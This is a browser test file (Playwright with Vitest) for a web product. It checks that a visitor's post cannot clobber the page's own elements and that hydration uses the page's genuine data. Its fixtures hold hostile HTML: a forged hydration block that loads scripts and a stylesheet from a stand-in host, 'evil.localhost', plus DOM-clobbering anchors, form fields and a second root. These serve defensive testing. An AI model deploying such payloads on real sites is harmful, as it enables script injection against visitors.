import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { useBrowserSite } from '../test/browser/use-browser-site.ts'

// A visitor's post that names the page's own elements (docs/security.md "Written HTML"): a copy of
// the page's hydration data whose site code loads scripts and a style from the writer's host, an
// anchor and form fields with names the page's code or the DOM look up, and a second root. The
// page must hydrate from its own data, and no request may reach the host the post names. And a
// site's nav groups named like the page's own elements, whose section ids the product keeps.

const EVIL = 'http://evil.localhost'
const HOSTILE_POST = 'p1001'

/** The forged hydration data, made from a real page before the hostile post is first read. */
let forgedHydration = ''

function hostileContent(): string {
  return [
    'Written by a visitor.',
    `<div id="__hydration">${forgedHydration}</div>`,
    `<p><a name="__hydration" href="${EVIL}/anchor">an anchor named like the data</a></p>`,
    '<div id="root"><p>a second root</p></div>',
    `<form action="${EVIL}/form" name="attributes"><input name="attributes" value="x"><input name="querySelector"></form>`,
    '[to the notes](#notes)',
    // Enough text that the notes start below the first screen.
    ...Array.from({ length: 60 }, (_, n) => `Paragraph ${n + 1} of the post.`),
    '<h2 id="notes">Notes</h2>',
    'The end.',
  ].join('\n\n')
}

/**
 * Nav group names a site chose, which the product turns into section ids as they are (anchors a
 * menu links to): the ids the page's own code looks up.
 */
const GROUP_NAMES: Record<string, string> = { 'AI 對話': '__hydration', 'AI 繪圖': 'root', 'AI 影音': 'content' }

async function withHostilePost(request: Request, demo: (request: Request) => Promise<Response>): Promise<Response> {
  const response = await demo(request)
  if (request.url.endsWith('/v1/site_page/web_get')) {
    let text = await response.text()
    for (const [name, id] of Object.entries(GROUP_NAMES)) {
      text = text.replaceAll(`"group_name":"${name}"`, `"group_name":"${id}"`)
    }
    return new Response(text, { status: response.status, headers: { 'content-type': 'application/json' } })
  }
  if (!request.url.endsWith('/v1/post/get')) return response
  const body = (await response.json()) as { data?: { id?: string; content?: string } | null }
  if (body.data?.id === HOSTILE_POST) body.data.content = hostileContent()
  return Response.json(body)
}

/** A page's own hydration data, with site code that loads the writer's scripts and style. */
async function forgeHydration(page: Page): Promise<string> {
  const text = await page.evaluate(() => document.querySelector('script#__hydration')?.textContent ?? '')
  const data = JSON.parse(text) as { loaderData: { root: { head: { code: unknown[] } } } }
  data.loaderData.root.head.code.push(
    { tag: 'script', attrs: { src: `${EVIL}/code.js` }, html: '' },
    { tag: 'script', attrs: {}, html: `import(${JSON.stringify(`${EVIL}/inline.js`)})` },
    { tag: 'link', attrs: { rel: 'stylesheet', href: `${EVIL}/style.css` } },
  )
  return JSON.stringify(data).replaceAll('<', '\\u003c')
}

describe('names written by visitors or chosen by a site, in a real browser', { timeout: 90_000 }, () => {
  const browserSite = useBrowserSite({ upstream: withHostilePost })

  it('renders, hydrates from the page’s own data and navigates client-side; no request reaches the host it names', async () => {
    const requests: string[] = []
    const documents: string[] = []
    const options = {
      locale: 'en-US',
      ignoreErrors: /net::ERR_FAILED|net::ERR_NAME_NOT_RESOLVED/,
      watch: (page: Page) => {
        page.on('request', (request) => {
          requests.push(request.url())
          if (request.resourceType() === 'document') documents.push(request.url())
        })
        void page.route('https://accounts.google.com/**', (route) => route.abort())
      },
    }
    // Another post's page, as the writer reads it, gives the data to forge.
    const clean = await browserSite.open('land.localhost', '/post/p1002', options)
    forgedHydration = await forgeHydration(clean.page)
    await clean.page.close()
    requests.length = 0
    documents.length = 0

    const { page, errors } = await browserSite.open('land.localhost', `/post/${HOSTILE_POST}#notes`, options)
    // The post is on the page, its names moved out of the page's own.
    expect(
      await page.evaluate(() => ({
        roots: Array.from(document.querySelectorAll('#root'), (e) => e.parentElement === document.body),
        data: Array.from(document.querySelectorAll('#__hydration, [name="__hydration"]'), (e) => e.localName),
        fields: document.querySelectorAll('[name="attributes"], [name="querySelector"], .post-article__content form')
          .length,
        forged: document.getElementById('user-content-__hydration')?.textContent?.includes('code.js') ?? false,
        anchor: document.querySelector('a[name="user-content-__hydration"]') !== null,
        secondRoot: document.getElementById('user-content-root')?.textContent,
        link: document.querySelector('.post-article__content a[href^="#"]')?.getAttribute('href'),
      })),
    ).toEqual({
      roots: [true],
      data: ['script'],
      fields: 0,
      forged: true,
      anchor: true,
      secondRoot: 'a second root',
      link: '#user-content-notes',
    })
    // The address names the writer's anchor as written (#notes): the page opens with it in view,
    // far down the post (images above it may still move it within the window).
    await page.waitForFunction(() => {
      const top = document.getElementById('user-content-notes')?.getBoundingClientRect().top
      return top !== undefined && top >= 0 && top < window.innerHeight && window.scrollY > 1000
    })

    // The written in-page link reaches the same heading.
    await page.evaluate(() => window.scrollTo({ top: 0, behavior: 'instant' }))
    await page.locator('.post-article__content a[href="#user-content-notes"]').click()
    await page.waitForFunction(() => {
      const top = document.getElementById('user-content-notes')?.getBoundingClientRect().top
      return top !== undefined && top >= 0 && top < window.innerHeight && window.scrollY > 1000
    })

    // Hydrated from the page's own data: its title, and a control that needs the app answers.
    const title = await page.title()
    expect(title).toContain('Lumen')
    await page.locator('.account-signin').click()
    await page.getByRole('dialog').and(page.locator('.account-dialog')).waitFor()
    await page.keyboard.press('Escape')
    await expect.poll(() => page.locator('.account-dialog').count()).toBe(0)

    // A client navigation (no document load) to the post list, whose head the browser applies.
    await page.locator('.post-breadcrumb a[href="/post"]').click()
    await page.waitForURL((url) => url.pathname === '/post')
    await expect.poll(() => page.title()).not.toBe(title)
    await page.waitForFunction(() =>
      document.querySelector<HTMLLinkElement>('link[rel="canonical"]')?.href.endsWith('/post'),
    )
    expect(documents).toHaveLength(1)

    expect(requests.filter((url) => url.startsWith(EVIL))).toEqual([])
    expect(errors).toEqual([])
    await page.close()
  })

  it('hydrates a page whose own sections a site named __hydration, root and content', async () => {
    const documents: string[] = []
    const { page, errors } = await browserSite.open('nav.localhost', '/ai', {
      locale: 'zh-TW',
      ignoreErrors: /net::ERR_FAILED|net::ERR_NAME_NOT_RESOLVED/,
      watch: (page) =>
        page.on('request', (request) => {
          if (request.resourceType() === 'document') documents.push(request.url())
        }),
    })
    // The product's anchors keep the names the site gave them, beside the page's own elements of
    // those ids (the section named __hydration comes before the data): the data and root are found by place.
    expect(
      await page.evaluate(() =>
        ['__hydration', 'root', 'content'].map((id) =>
          Array.from(document.querySelectorAll(`[id="${id}"]`), (element) => element.localName),
        ),
      ),
    ).toEqual([
      ['section', 'script'],
      ['div', 'section'],
      ['main', 'section'],
    ])
    // A control that needs the app: the tabs of the section named __hydration.
    const tabs = page.locator('section[id="__hydration"] [role="tab"]')
    await tabs.nth(1).click()
    await expect.poll(() => tabs.nth(1).getAttribute('aria-selected')).toBe('true')
    // The skip link focuses the page's main element, not the section named content.
    await page.evaluate(() => document.querySelector<HTMLElement>('.skip-link')?.click())
    expect(await page.evaluate(() => document.activeElement?.localName)).toBe('main')
    await page.locator('.site-logo').first().click()
    await page.waitForURL((url) => url.pathname === '/')
    await page.waitForFunction(() =>
      document.querySelector<HTMLLinkElement>('link[rel="canonical"]')?.href.endsWith('/'),
    )
    expect(documents).toHaveLength(1)
    expect(errors).toEqual([])
    await page.close()
  })
})
